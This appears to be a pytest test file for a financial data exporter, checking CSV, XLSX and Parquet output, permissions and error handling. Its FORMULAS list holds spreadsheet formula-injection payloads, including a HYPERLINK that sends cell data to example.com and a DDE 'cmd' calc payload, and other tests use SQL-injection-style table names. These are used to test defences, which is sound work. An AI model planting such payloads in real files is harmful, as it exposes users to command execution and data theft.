"""The export: what other programs then read."""

from __future__ import annotations

import csv
import resource
import subprocess
import sys
from contextlib import contextmanager
from datetime import date
from decimal import Decimal
from typing import TYPE_CHECKING
from xml.etree import ElementTree as ET
from zipfile import ZipFile

import duckdb
import pandas as pd
import pytest

from belvo_data.errors import InputInvalid, StoreUnwritable
from belvo_data.store.read.export import FORMATS, Format, as_file, export, tables

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

CELL = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def test_parquet_keeps_types_and_cents(story: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    """
    2026-01-09 checking -250.25 MXN - Groceries
    """
    [(path, rows, _)] = export(story, tmp_path / "out", ["transactions"], "parquet")
    [found] = duckdb.sql(f"select value_date, signed_amount, currency from '{path}'").fetchall()
    assert (rows, found) == (1, (date(2026, 1, 9), Decimal("-250.2500"), "MXN"))


def test_csv_keeps_text_and_amounts(story: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    """
    2026-01-09 checking -250.25 MXN - São João, "so" it says
    """
    [row] = csv.DictReader(written(story, tmp_path, "transactions", "csv").read_text("utf-8").splitlines())
    assert (row["signed_amount"], row["description"]) == ("-250.2500", 'São João, "so" it says')


FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.com/?"&A2;"ver")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+55 11 90000-0000",
    "-5",
    "  =1",
    "\t=1",
    "\tx",
    "\r=1",
    "\n=1",
    "\N{NO-BREAK SPACE}=1",
    "\N{ZERO WIDTH SPACE}=1",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1",
    "\x1b=1",
    "\x00=1",
    '"=1"',
    '" =1',
    *(f"{sign}1" for sign in "＝＋－＠﹢﹣﹦﹫−"),  # noqa: RUF001  as wide as a letter of Chinese
]
LATER = ["a;=1", "a; -b", 'a;"=1"', "a\n=1", "a\r\n+1", "a\t@1", "a\r-1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_in_csv_an_apostrophe_stands_before_text_that_may_be_taken_for_a_formula(
    tmp_path: Path, text: str
) -> None:
    kept = text.replace("\r", "\n").translate({0: None, 27: None})
    [_, [said, amount]] = in_csv(tmp_path, text)
    assert (said[0], amount) == ("'", "-5.50")
    assert said.replace("'", "") == kept.replace("'", "")


@pytest.mark.parametrize("text", [*FORMULAS, *LATER])
@pytest.mark.parametrize("between", [",", ";", "\t"])
def test_in_csv_no_text_begins_a_formula_whatever_is_taken_for_what_parts_columns(
    tmp_path: Path, text: str, between: str
) -> None:
    cells = [cell.strip(' "\t\u200b\ufeff\xa0') for row in in_csv(tmp_path, text, between) for cell in row]
    assert [cell for cell in cells if cell[:1] in set("=+-@＝＋－＠﹢﹣﹦﹫−") - {"-"}] == []  # noqa: RUF001
    assert {cell for cell in cells if cell.startswith("-")} <= {"-5.50"}


@pytest.mark.parametrize(
    "text", ["a = b", "a-b", "a@b.com", "1;2", "'=1", "¿=1?", "(-5)", "São João", "", "☃"]
)
def test_other_text_in_csv_is_as_it_was(tmp_path: Path, text: str) -> None:
    assert in_csv(tmp_path, text)[1][0] == text


def test_control_characters_are_in_no_file_for_spreadsheets_and_all_are_in_parquet(tmp_path: Path) -> None:
    controls = "".join(map(chr, (*range(32), *range(127, 160), 0xFFFE, 0xFFFF)))
    with told(f"a{controls}b") as db:
        [_, [said, _]] = cells_of(written(db, tmp_path, "sums", "csv"))
        cells = sheet(written(db, tmp_path, "sums", "xlsx"))
        whole = duckdb.sql(f"select said from '{written(db, tmp_path, 'sums', 'parquet')}'").fetchall()
    assert said == "a\t\n\nb"
    assert cells["said"] == ("inlineStr", "a\t\n\nb")
    assert whole == [(f"a{controls}b",)]


def test_a_mark_of_utf_8_is_a_choice(tmp_path: Path) -> None:
    with told("ação") as db:
        plain = written(db, tmp_path / "plain", "sums", "csv").read_bytes()
        marked = export(db, tmp_path / "marked", ["sums"], "csv", bom=True)[0].path.read_bytes()
    assert plain.startswith(b"said,amount\n")
    assert marked == b"\xef\xbb\xbf" + plain


def test_a_demo_says_so_in_the_name_and_in_each_row_of_any_form(tmp_path: Path) -> None:
    with told("Groceries") as db:
        [(csv_path, *_)] = export(db, tmp_path, ["sums"], "csv", bom=True, is_demo=True)
        [(parquet, *_)] = export(db, tmp_path, ["sums"], "parquet", is_demo=True)
        [(workbook, *_)] = export(db, tmp_path, ["sums"], "xlsx", is_demo=True)
        db.execute('alter table sums rename said to "Demo"')
        [(other, *_)] = export(db, tmp_path / "other", ["sums"], "csv", is_demo=True)
    assert csv_path.name == "demo-sums.csv"
    assert csv_path.read_text("utf-8-sig") == "demo,said,amount\nlook-alikes,Groceries,-5.50\n"
    found = duckdb.sql(f"from '{parquet}'")
    assert (found.columns, found.fetchall()) == (
        ["demo", "said", "amount"],
        [("look-alikes", "Groceries", Decimal("-5.50"))],
    )
    assert sheet(workbook)["demo"] == ("inlineStr", "look-alikes")
    assert other.read_text("utf-8").splitlines()[0] == "demo_,Demo,amount"


@pytest.mark.parametrize("form", FORMATS)
def test_a_column_may_have_any_name(tmp_path: Path, form: Format) -> None:
    with duckdb.connect() as db:
        db.execute("""create table odd as select 1 as "a""b", 2 as "c; --" """)
        assert [rows for _, rows, _ in export(db, tmp_path, ["odd"], form)] == [1]


def test_a_frame_is_a_file_in_which_no_text_is_a_formula_and_a_demo_says_so() -> None:
    frame = pd.DataFrame({"said": ["=1+1", "ação"], "amount": [1.5, -2.0]})
    plain = as_file(frame, "csv", name="answer")
    marked = as_file(frame, "csv", name="answer", bom=True, is_demo=True)
    assert plain.decode("utf-8") == "said,amount\n'=1+1,1.5\nação,-2.0\n"
    assert marked.decode("utf-8") == (
        "\ufeffdemo,said,amount\nlook-alikes,'=1+1,1.5\nlook-alikes,ação,-2.0\n"
    )


def test_what_lies_in_a_cell_is_json(tmp_path: Path) -> None:
    with duckdb.connect() as db:
        db.execute("create table nested as select ['a', '=b'] as list, '{\"c\": [1]}'::json as object")
        [_, *rows] = cells_of(written(db, tmp_path, "nested", "csv"))
        cells = sheet(written(db, tmp_path, "nested", "xlsx"))
    assert rows == [['["a","=b"]', '{"c": [1]}']]
    assert cells == {"list": ("inlineStr", '["a","=b"]'), "object": ("inlineStr", '{"c": [1]}')}


def test_text_that_is_longer_than_a_cell_is_cut_and_counted(tmp_path: Path) -> None:
    with duckdb.connect() as db:
        # An emoji counts twice.
        db.execute(
            "create table long as select repeat('a', 32767) as fits, repeat('b', 32768) as one_more, "
            "repeat('🙂', 16384) as smiles"
        )
        [(path, rows, cut)] = export(db, tmp_path, ["long"], "xlsx")
        [(_, _, of_parquet)] = export(db, tmp_path, ["long"], "parquet")
    assert (rows, cut, of_parquet) == (1, 2, 0)
    assert sheet(path) == {
        "fits": ("inlineStr", "a" * 32767),
        "one_more": ("inlineStr", "b" * 32767),
        "smiles": ("inlineStr", "🙂" * 16383),
    }


@pytest.mark.parametrize("day", ["1899-12-31", "0001-01-01", "10000-01-01", "infinity", "-infinity"])
def test_a_day_that_no_sheet_has_is_text(tmp_path: Path, day: str) -> None:
    with duckdb.connect() as db:
        db.execute("set timezone = 'UTC'")
        db.execute(f"create table days as select '{day}'::date as day, '{day}'::timestamptz as moment")
        cells = sheet(written(db, tmp_path, "days", "xlsx"))
    midnight = "" if "infinity" in day else " 00:00:00"
    assert cells == {"day": ("inlineStr", day), "moment": ("inlineStr", f"{day}{midnight}")}


def test_text_in_a_sheet_is_never_a_formula_and_an_amount_is_a_number(
    story: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    """
    2026-01-09 checking -250.25 MXN - =1+1
    """
    cells = sheet(export(story, tmp_path, ["transactions"], "xlsx")[0][0])
    assert (cells["description"], cells["signed_amount"]) == (("inlineStr", "=1+1"), ("n", "-250.2500"))
    assert cells["value_date"] == ("n", "46031")  # days since 1899-12-30


def test_an_amount_that_a_sheet_would_round_is_text(tmp_path: Path) -> None:
    with duckdb.connect() as db:
        db.execute("create table sums as select 12345678901234.5678::decimal(18,4) as amount")
        cells = sheet(export(db, tmp_path, ["sums"], "xlsx")[0][0])
    assert cells == {"amount": ("inlineStr", "12345678901234.5678")}


def test_a_sheet_that_would_be_too_long_is_refused(tmp_path: Path) -> None:
    with duckdb.connect() as db:
        db.execute("create table long as from range(1048576)")
        with pytest.raises(InputInvalid, match="1,048,576 rows"):
            export(db, tmp_path, ["long"], "xlsx")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("form", FORMATS)
def test_without_names_every_table_is_a_file_that_only_its_owner_reads(
    story: duckdb.DuckDBPyConnection, tmp_path: Path, form: str
) -> None:
    """
    2026-01-09 checking -250.25 MXN - Groceries
    """
    files = [path for path, *_ in export(story, tmp_path / "out", [], form)]
    assert [path.name for path in files] == [f"{table}.{form}" for table in tables(story)]
    assert {"ledger.csv", "transactions.csv"} <= {f"{path.stem}.csv" for path in files}
    assert {oct(path.stat().st_mode) for path in files} == {"0o100600"}


def test_a_table_that_is_not_there_is_refused_with_those_that_are(
    story: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    """
    2026-01-09 checking -250.25 MXN - Groceries
    """
    with pytest.raises(InputInvalid, match='no table movements"; drop') as refused:
        export(story, tmp_path, ['movements"; drop table links; --'], "csv")
    assert "transactions" in refused.value.remedy


@pytest.mark.parametrize("form", FORMATS)
def test_while_a_file_is_written_nobody_else_reads_it_in_a_folder_of_all(
    tmp_path: Path, form: Format
) -> None:
    out = tmp_path / "out"
    out.mkdir(mode=0o755)
    seen = set[str]()
    with duckdb.connect() as db:
        db.create_function("seen", lambda: seen.update(modes(out)) or 1, [], int, side_effects=True)
        db.execute("create view looked as select seen() as looks")
        export(db, out, ["looked"], form)
    assert seen == {"0o40700", "0o100600"}
    assert modes(out) == ["0o100600"]


def modes(folder: Path) -> list[str]:
    return [oct(path.stat().st_mode) for path in folder.rglob("*")]


@contextmanager
def full_at(size: int) -> Iterator[None]:
    """Have no file grow beyond a size, as on a disk that is full."""
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (size, before[1]))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)


@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize("size", [0, 1_000, 60_000])
def test_a_full_disk_is_one_sentence_and_leaves_what_was_there(tmp_path: Path, form: str, size: int) -> None:
    out = tmp_path / "out"
    with duckdb.connect() as db:
        db.execute("create table a as select 1 as one")
        db.execute("create table b as select uuid()::varchar as id from range(20_000)")
        [was] = export(db, out, ["a"], form)
        before = was.path.read_bytes()
        for folder in (out, tmp_path / "new"):
            with (
                full_at(size),
                pytest.raises(StoreUnwritable, match=r"^[^\n]* can't be written: File too large"),
            ):
                export(db, folder, ["a", "b"], form)
    assert [path for path in tmp_path.rglob("*") if path != out] == [was.path]
    assert was.path.read_bytes() == before


def test_a_sheet_that_is_refused_takes_the_tables_before_it_along(tmp_path: Path) -> None:
    with duckdb.connect() as db:
        db.execute("create table a as select 1 as one; create table b as from range(1048576)")
        with pytest.raises(InputInvalid, match="1,048,576 rows"):
            export(db, tmp_path / "out", [], "xlsx")
    assert list(tmp_path.iterdir()) == []


def test_what_a_killed_export_left_goes_with_the_next(tmp_path: Path) -> None:
    with subprocess.Popen([sys.executable, "-c", ""]) as dead:
        dead.wait()
    for name in (f"spill-{dead.pid}-0", "spill-x"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "links.csv").touch()
    with told("Groceries") as db:
        export(db, tmp_path, ["sums"], "csv")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["spill-x", "sums.csv"]


@pytest.mark.parametrize("form", FORMATS)
def test_a_folder_that_can_not_be_made_is_an_error_with_a_remedy(
    story: duckdb.DuckDBPyConnection, tmp_path: Path, form: str
) -> None:
    """
    2026-01-09 checking -250.25 MXN - Groceries
    """
    (tmp_path / "file").touch()
    with pytest.raises(StoreUnwritable, match="can't be written"):
        export(story, tmp_path / "file" / "out", ["links"], form)


def sheet(path: Path) -> dict[str, tuple[str, str]]:
    """Return the first row below the heading: each column's kind of cell, and what is in it."""
    with ZipFile(path) as book:
        rows = ET.fromstring(book.read("xl/worksheets/sheet1.xml")).iter(f"{CELL}row")
    heading, first = ({cell.get("r", "").rstrip("12"): cell for cell in row} for row in list(rows)[:2])
    return {
        "".join(name.itertext()): (first[place].get("t", "n"), "".join(first[place].itertext()))
        for place, name in heading.items()
        if place in first
    }


def written(db: duckdb.DuckDBPyConnection, folder: Path, table: str, form: Format) -> Path:
    """Return the file that a table is exported to."""
    [found] = export(db, folder, [table], form)
    return found.path


@contextmanager
def told(text: str) -> Iterator[duckdb.DuckDBPyConnection]:
    """Yield a database with a table of what somebody said, and an amount."""
    with duckdb.connect() as db:
        db.execute("create table sums as select ?::varchar as said, -5.5::decimal(18, 2) as amount", [text])
        yield db


def in_csv(folder: Path, text: str, between: str = ",") -> list[list[str]]:
    """Return the cells of a CSV that holds a text, for whom ``between`` parts columns."""
    with told(text) as db:
        return cells_of(written(db, folder, "sums", "csv"), between)


def cells_of(path: Path, between: str = ",") -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file, delimiter=between))
